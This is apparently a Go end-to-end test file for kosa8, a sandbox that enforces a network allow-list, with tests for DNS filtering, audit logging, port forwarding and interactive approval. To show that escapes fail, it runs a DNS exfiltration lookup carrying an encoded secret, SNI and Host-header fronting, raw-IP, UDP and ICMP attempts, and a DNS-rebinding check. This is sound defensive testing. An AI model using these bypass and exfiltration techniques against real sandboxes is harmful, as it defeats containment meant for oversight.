package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/miekg/dns"
)

// runWith runs kosa8 with extra environment (the host-side test override).
func runWith(t *testing.T, env []string, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := kosa8Cmd(ctx, args...)
	cmd.Env = append(cmd.Env, env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if ee, ok := err.(interface{ ExitCode() int }); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("kosa8 %v: %v", args, err)
	}
	return result{stdout: out.String(), stderr: errb.String(), code: code}
}

// localServers are the test's stand-ins for the internet, on all host
// interfaces so that a raw-address connection has something to refuse.
type localServers struct {
	http, https *httptest.Server
	httpPort    int
	httpsPort   int
}

func startServers(t *testing.T) *localServers {
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello %s via %s", r.Host, map[bool]string{true: "https", false: "http"}[r.TLS != nil])
	})
	s := &localServers{}
	for _, tls := range []bool{false, true} {
		l, err := net.Listen("tcp4", "0.0.0.0:0")
		if err != nil {
			t.Fatal(err)
		}
		srv := httptest.NewUnstartedServer(h)
		srv.Listener.Close()
		srv.Listener = l
		if tls {
			srv.StartTLS()
			s.https, s.httpsPort = srv, l.Addr().(*net.TCPAddr).Port
		} else {
			srv.Start()
			s.http, s.httpPort = srv, l.Addr().(*net.TCPAddr).Port
		}
		t.Cleanup(srv.Close)
	}
	return s
}

// countingDNS is a fake upstream resolver that records every question.
type countingDNS struct {
	addr string
	mu   sync.Mutex
	seen []string
}

func startCountingDNS(t *testing.T) *countingDNS {
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &countingDNS{addr: pc.LocalAddr().String()}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		c.mu.Lock()
		for _, qu := range q.Question {
			c.seen = append(c.seen, dns.TypeToString[qu.Qtype]+" "+strings.ToLower(qu.Name))
		}
		c.mu.Unlock()
		r := new(dns.Msg)
		r.SetReply(q)
		if len(q.Question) == 1 && q.Question[0].Qtype == dns.TypeA {
			r.Answer = append(r.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(127, 0, 0, 1)})
		}
		w.WriteMsg(r)
	})}
	go srv.ActivateAndServe()
	t.Cleanup(func() { srv.Shutdown() })
	return c
}

func (c *countingDNS) questions() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.seen...)
}

// hostIP is an address of this machine other than loopback.
func hostIP(t *testing.T) string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Skip("this machine has no non-loopback IPv4 address to test raw-address refusal with")
	return ""
}

type auditEvent struct {
	Kind, Name, Dest, Decision, Reason, QType string
}

func readAudit(t *testing.T, name string) []auditEvent {
	b, err := os.ReadFile(ls(t)[name].Dir + "/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	var out []auditEvent
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var e auditEvent
		if json.Unmarshal([]byte(line), &e) == nil {
			out = append(out, e)
		}
	}
	return out
}

func hasEvent(evs []auditEvent, f func(auditEvent) bool) bool {
	for _, e := range evs {
		if f(e) {
			return true
		}
	}
	return false
}

func TestNetwork(t *testing.T) {
	srv := startServers(t)
	upstream := startCountingDNS(t)
	env := []string{
		"KOSA8_NET_OVERRIDES=allowed.test=127.0.0.1,late.test=127.0.0.1,ports.test=127.0.0.1,a.wild.test=127.0.0.1,other.wild.test=127.0.0.1",
		"KOSA8_NET_RESOLVER=" + upstream.addr,
	}
	name := "net"
	r := runWith(t, env, "create", name,
		"--allow", fmt.Sprintf("allowed.test:%d,%d", srv.httpPort, srv.httpsPort),
		"--allow", "counted.test")
	if r.code != 0 {
		t.Fatalf("create: %s", r)
	}
	t.Cleanup(func() { run(t, "", "rm", "-f", name) })
	if r := runWith(t, env, "start", name); r.code != 0 {
		t.Fatalf("start: %s", r)
	}
	sh := func(script string) result {
		t.Helper()
		return run(t, "", "exec", name, "--", "sh", "-c", script)
	}

	t.Run("allowed host over HTTP and HTTPS", func(t *testing.T) {
		r := sh(fmt.Sprintf("curl -sS -m 20 http://allowed.test:%d/ && echo && curl -sS -k -m 20 https://allowed.test:%d/", srv.httpPort, srv.httpsPort))
		if r.code != 0 || !strings.Contains(r.stdout, "hello allowed.test:") || !strings.Contains(r.stdout, "via https") {
			t.Fatalf("allowed host:\n%s", r)
		}
	})
	t.Run("denied host fails fast", func(t *testing.T) {
		// A refused name resolves to the refusal page, which answers
		// ports 80 and 443 only: this one is reset at once.
		start := time.Now()
		r := sh(fmt.Sprintf("curl -sS -m 30 http://denied.test:%d/", srv.httpPort))
		if r.code == 0 || !strings.Contains(r.stderr, "Failed to connect to denied.test") {
			t.Fatalf("denied host:\n%s", r)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Fatalf("denial took %s", d)
		}
	})
	t.Run("raw address of an allowed server is refused", func(t *testing.T) {
		ip := hostIP(t)
		r := sh(fmt.Sprintf("curl -sS -m 20 --resolve allowed.test:%d:%s http://allowed.test:%d/", srv.httpPort, ip, srv.httpPort))
		if r.code == 0 || !strings.Contains(r.stderr, "Failed to connect") {
			t.Fatalf("raw address:\n%s", r)
		}
	})
	t.Run("SNI that differs from the name is refused", func(t *testing.T) {
		r := sh(fmt.Sprintf(`ip=$(getent hosts allowed.test | cut -d' ' -f1); curl -sS -k -m 20 --resolve other.test:%d:$ip https://other.test:%d/`, srv.httpsPort, srv.httpsPort))
		if r.code == 0 {
			t.Fatalf("SNI other.test to allowed.test's address went through:\n%s", r)
		}
	})
	t.Run("Host header that differs is refused", func(t *testing.T) {
		r := sh(fmt.Sprintf("curl -sS -m 20 -H 'Host: other.test' http://allowed.test:%d/", srv.httpPort))
		if strings.Contains(r.stdout, "hello other.test") || !strings.Contains(r.stdout, "does not match") {
			t.Fatalf("fronted Host:\n%s", r)
		}
	})
	t.Run("denied names and TXT never reach a real resolver", func(t *testing.T) {
		// A TXT query for an allowed name, and exfiltration-shaped lookups.
		txt := `import socket,struct
q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in "counted.test".split("."))+b"\x00"+struct.pack(">HH",16,1)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);s.sendto(q,("192.168.127.1",53));print(len(s.recvfrom(512)[0]))`
		sh("getent hosts c2VjcmV0.exfil.test; getent hosts denied.test; python3 -c '" + txt + "'")
		// The allowed name is looked up on the host when connected to.
		sh("curl -sS -m 20 http://counted.test/ || true")
		q := upstream.questions()
		if !hasString(q, "A counted.test.") {
			t.Fatalf("the fake upstream saw no lookup for the allowed name (test broken?): %v", q)
		}
		for _, s := range q {
			if strings.Contains(s, "exfil") || strings.Contains(s, "denied") || strings.HasPrefix(s, "TXT") {
				t.Fatalf("a query reached the upstream resolver: %q (all: %v)", s, q)
			}
		}
		evs := readAudit(t, name)
		if !hasEvent(evs, func(e auditEvent) bool {
			return e.Kind == "tcp" && e.Name == "counted.test" && e.Decision == "deny" && strings.Contains(e.Reason, "special address 127.0.0.1")
		}) {
			t.Fatalf("counted.test resolving to loopback was not refused as DNS rebinding: %+v", evs)
		}
	})
	t.Run("UDP and IPv6 fail", func(t *testing.T) {
		r := sh(`python3 -c 'import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2);s.sendto(b"x",("8.8.8.8",53));s.recvfrom(10)'`)
		if r.code == 0 {
			t.Fatalf("UDP to 8.8.8.8 got an answer:\n%s", r)
		}
		r = sh("curl -sS -6 -m 5 'http://[2001:db8::1]/'")
		if r.code == 0 {
			t.Fatalf("IPv6 connected:\n%s", r)
		}
		if !hasEvent(readAudit(t, name), func(e auditEvent) bool { return e.Kind == "udp" && e.Dest == "8.8.8.8:53" && e.Decision == "deny" }) {
			t.Fatal("the dropped UDP datagram is not in the audit log")
		}
		// An ICMP echo (a raw socket, as root inside): dropped and logged.
		r = sh(`sudo python3 -c 'import socket;s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP);s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00",("1.1.1.1",0));s.settimeout(2);s.recvfrom(100)'`)
		if r.code == 0 {
			t.Fatalf("an ICMP echo got an answer:\n%s", r)
		}
		if !hasEvent(readAudit(t, name), func(e auditEvent) bool { return e.Kind == "icmp" && e.Dest == "1.1.1.1" && e.Decision == "deny" }) {
			t.Fatal("the dropped ICMP echo is not in the audit log")
		}
	})
	t.Run("the gateway is no way to the host", func(t *testing.T) {
		r := sh(fmt.Sprintf("curl -sS -m 10 http://192.168.127.1:%d/", srv.httpPort))
		if r.code == 0 {
			t.Fatalf("reached a host server through the gateway:\n%s", r)
		}
	})
	t.Run("net allow at runtime", func(t *testing.T) {
		url := fmt.Sprintf("http://late.test:%d/", srv.httpPort)
		if r := sh("curl -sS -m 10 " + url); r.code == 0 {
			t.Fatalf("late.test reachable before it was allowed:\n%s", r)
		}
		must(t, "net", "allow", name, fmt.Sprintf("late.test:%d", srv.httpPort))
		if r := sh("curl -sS -m 20 " + url); r.code != 0 || !strings.Contains(r.stdout, "hello late.test") {
			t.Fatalf("after net allow:\n%s", r)
		}
		// A plain-HTTP request on a port the allow-list refuses says why
		// and how to allow it.
		if r := sh("curl -s -m 10 http://late.test/"); !strings.Contains(r.stdout, "allow-listed") || !strings.Contains(r.stdout, "kosa8 net allow "+name+" late.test") {
			t.Fatalf("a refused plain-HTTP request does not explain itself:\n%s", r)
		}
		must(t, "net", "deny", name, "late.test")
		if r := sh("curl -sS -m 10 " + url); r.code == 0 {
			t.Fatalf("late.test still reachable after net deny:\n%s", r)
		}
		if ls := must(t, "net", "ls", name, "--json").stdout; !strings.Contains(ls, `"deny:late.test"`) || !strings.Contains(ls, "allowed.test") {
			t.Fatalf("net ls after deny: %s", ls)
		}
		// A bare target takes the allow rule and leaves the deny rule,
		// which goes when named.
		must(t, "net", "rm", name, "late.test")
		if ls := must(t, "net", "ls", name, "--json").stdout; !strings.Contains(ls, `"deny:late.test"`) || strings.Contains(ls, `"late.test`) {
			t.Fatalf("net ls after rm of the allow rule: %s", ls)
		}
		must(t, "net", "rm", name, "deny:late.test")
		if ls := must(t, "net", "ls", name, "--json").stdout; strings.Contains(ls, "late.test") {
			t.Fatalf("net ls after rm: %s", ls)
		}
		if r := run(t, "", "net", "rm", name, "never-allowed.test"); r.code == 0 || !strings.Contains(r.stderr, "no rule matches") {
			t.Fatalf("net rm of a rule that matches nothing: %s", r)
		}
	})
	t.Run("net rm host:port removes that port only", func(t *testing.T) {
		must(t, "net", "allow", name, fmt.Sprintf("ports.test:%d", srv.httpPort))
		must(t, "net", "allow", name, fmt.Sprintf("ports.test:%d", srv.httpsPort))
		if r := sh(fmt.Sprintf("curl -sS -k -m 20 https://ports.test:%d/", srv.httpsPort)); r.code != 0 || !strings.Contains(r.stdout, "hello ports.test") {
			t.Fatalf("the second port is refused while allowed:\n%s", r)
		}
		must(t, "net", "rm", name, fmt.Sprintf("ports.test:%d", srv.httpsPort))
		var ls struct{ Rules []string }
		if err := json.Unmarshal([]byte(must(t, "net", "ls", name, "--json").stdout), &ls); err != nil {
			t.Fatal(err)
		}
		var ports []string
		for _, r := range ls.Rules {
			if strings.HasPrefix(r, "ports.test") {
				ports = append(ports, r)
			}
		}
		if want := fmt.Sprintf("ports.test:%d", srv.httpPort); len(ports) != 1 || ports[0] != want {
			t.Fatalf("net ls after net rm of one port: %q, want [%s]", ports, want)
		}
		if r := sh(fmt.Sprintf("curl -sS -m 20 http://ports.test:%d/", srv.httpPort)); r.code != 0 || !strings.Contains(r.stdout, "hello ports.test") {
			t.Fatalf("the port left allowed is refused:\n%s", r)
		}
		if r := sh(fmt.Sprintf("curl -sS -k -m 10 https://ports.test:%d/", srv.httpsPort)); r.code == 0 {
			t.Fatalf("the removed port is still reachable:\n%s", r)
		}
	})
	t.Run("net deny wins over a wildcard", func(t *testing.T) {
		must(t, "net", "allow", name, fmt.Sprintf("*.wild.test:%d", srv.httpPort))
		must(t, "net", "deny", name, "other.wild.test")
		for host, want := range map[string]bool{"a.wild.test": true, "other.wild.test": false} {
			r := sh(fmt.Sprintf("curl -sS -m 10 http://%s:%d/", host, srv.httpPort))
			if got := r.code == 0 && strings.Contains(r.stdout, "hello "+host); got != want {
				t.Errorf("%s reachable=%v, want %v:\n%s", host, got, want, r)
			}
		}
		if sec := must(t, "net", "log", "--security", name).stdout; !strings.Contains(sec, "other.wild.test") || !strings.Contains(sec, "deny:other.wild.test") {
			t.Errorf("the security log does not show the denial by the deny rule:\n%s", sec)
		}
	})
	t.Run("audit log lists every attempt", func(t *testing.T) {
		evs := readAudit(t, name)
		checks := map[string]func(auditEvent) bool{
			"dns allow": func(e auditEvent) bool { return e.Kind == "dns" && e.Name == "allowed.test" && e.Decision == "allow" },
			"dns deny":  func(e auditEvent) bool { return e.Kind == "dns" && e.Name == "denied.test" && e.Decision == "deny" },
			"tcp allow": func(e auditEvent) bool { return e.Kind == "tcp" && e.Name == "allowed.test" && e.Decision == "allow" },
			"raw deny":  func(e auditEvent) bool { return e.Kind == "tcp" && e.Name == "" && e.Decision == "deny" },
			"sni deny":  func(e auditEvent) bool { return e.Kind == "tcp" && strings.Contains(e.Reason, "server name") },
			"host deny": func(e auditEvent) bool { return e.Kind == "http" && e.Decision == "deny" },
		}
		for what, f := range checks {
			if !hasEvent(evs, f) {
				t.Errorf("no %s event in the audit log", what)
			}
		}
		out := must(t, "net", "log", name).stdout
		if !strings.Contains(out, "denied.test") || !strings.Contains(out, "allowed.test") {
			t.Errorf("net log output lacks entries:\n%s", out)
		}
		// What was refused and still is: the hosts to approve.
		var blocked []struct{ Host, Rule string }
		if err := json.Unmarshal([]byte(must(t, "net", "blocked", name, "--json").stdout), &blocked); err != nil {
			t.Fatal(err)
		}
		var hosts []string
		for _, b := range blocked {
			hosts = append(hosts, b.Host)
		}
		if !hasString(hosts, "denied.test") || !hasString(hosts, "late.test") || hasString(hosts, "allowed.test") {
			t.Errorf("net blocked: %v", hosts)
		}
	})
}

func hasString(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func freePort(t *testing.T) int {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

func TestPortForward(t *testing.T) {
	hostPort := freePort(t)
	name := "fwd"
	must(t, "create", name, "-p", fmt.Sprintf("%d:8000", hostPort))
	t.Cleanup(func() { run(t, "", "rm", "-f", name) })
	must(t, "start", name)
	must(t, "exec", name, "--", "sh", "-c", "cd /tmp && echo served-from-guest > index.html && (nohup python3 -m http.server 8000 >/dev/null 2>&1 &)")
	var body string
	for i := 0; i < 100; i++ {
		resp, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/", hostPort))
		if err == nil {
			b := new(bytes.Buffer)
			b.ReadFrom(resp.Body)
			resp.Body.Close()
			body = b.String()
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if !strings.Contains(body, "served-from-guest") {
		t.Fatalf("forwarded port: %q", body)
	}
	// A second forward at runtime; a taken host port is a clear error.
	taken, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer taken.Close()
	r := run(t, "", "port", name, fmt.Sprintf("%d:8000", taken.Addr().(*net.TCPAddr).Port))
	if r.code == 0 || !strings.Contains(r.stderr, "in use") {
		t.Fatalf("taken port:\n%s", r)
	}
	if out := must(t, "port", "ls", name).stdout; !strings.Contains(out, fmt.Sprintf("127.0.0.1:%d -> 8000", hostPort)) {
		t.Fatalf("port ls: %q", out)
	}
}

// 'kosa8 net approve' in a second terminal: a host the agent is refused
// shows up with a question, 'y' allows it, and the agent's next try works;
// 'n' leaves the next host refused. --json prints the events.
func TestNetApprove(t *testing.T) {
	srv := startServers(t)
	env := []string{"KOSA8_NET_OVERRIDES=wanted.test=127.0.0.1,unwanted.test=127.0.0.1"}
	name := "approve"
	if r := runWith(t, env, "create", name); r.code != 0 {
		t.Fatalf("create: %s", r)
	}
	t.Cleanup(func() { run(t, "", "rm", "-f", name) })
	if r := runWith(t, env, "start", name); r.code != 0 {
		t.Fatalf("start: %s", r)
	}
	sh := func(script string) result {
		t.Helper()
		return run(t, "", "exec", name, "--", "sh", "-c", script)
	}
	jsonCmd := kosa8Cmd(t.Context(), "net", "approve", "--json", name)
	var jsonOut screen
	jsonCmd.Stdout = &jsonOut
	if err := jsonCmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer jsonCmd.Process.Kill()
	cmd := kosa8Cmd(t.Context(), "net", "approve", name)
	ptmx, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 40, Cols: 120})
	if err != nil {
		t.Fatal(err)
	}
	defer ptmx.Close()
	defer cmd.Process.Kill()
	var scr screen
	go io.Copy(&scr, ptmx)
	pos := scr.waitFor(t, 0, "watching")
	url := fmt.Sprintf("http://wanted.test:%d/", srv.httpPort)
	if r := sh("curl -sS -m 10 " + url); r.code == 0 {
		t.Fatalf("wanted.test reachable before approval:\n%s", r)
	}
	pos = scr.waitFor(t, pos, "wanted.test")
	pos = scr.waitFor(t, pos, "allow it? [y/N]")
	ptmx.Write([]byte("y\r"))
	pos = scr.waitFor(t, pos, "allowed: wanted.test")
	// The rule has no port: a port other than 80 and 443 is asked for as
	// host:port; allow the one the server listens on the same way.
	sh("curl -sS -m 10 " + url + " || true")
	pos = scr.waitFor(t, pos, fmt.Sprintf("wanted.test:%d", srv.httpPort))
	ptmx.Write([]byte("y\r"))
	pos = scr.waitFor(t, pos, "allowed: wanted.test:")
	if r := sh("curl -sS -m 20 " + url); r.code != 0 || !strings.Contains(r.stdout, "hello wanted.test") {
		t.Fatalf("after approval:\n%s", r)
	}
	sh(fmt.Sprintf("curl -sS -m 10 http://unwanted.test:%d/ || true", srv.httpPort))
	pos = scr.waitFor(t, pos, "unwanted.test")
	ptmx.Write([]byte("n\r"))
	scr.waitFor(t, pos, "left refused: unwanted.test")
	if r := sh(fmt.Sprintf("curl -sS -m 10 http://unwanted.test:%d/", srv.httpPort)); r.code == 0 {
		t.Fatalf("unwanted.test reachable after 'n':\n%s", r)
	}
	jsonOut.waitFor(t, 0, `"host":"unwanted.test"`)
	if !strings.Contains(jsonOut.String(), `"host":"wanted.test"`) {
		t.Fatalf("--json events: %s", jsonOut.String())
	}
}
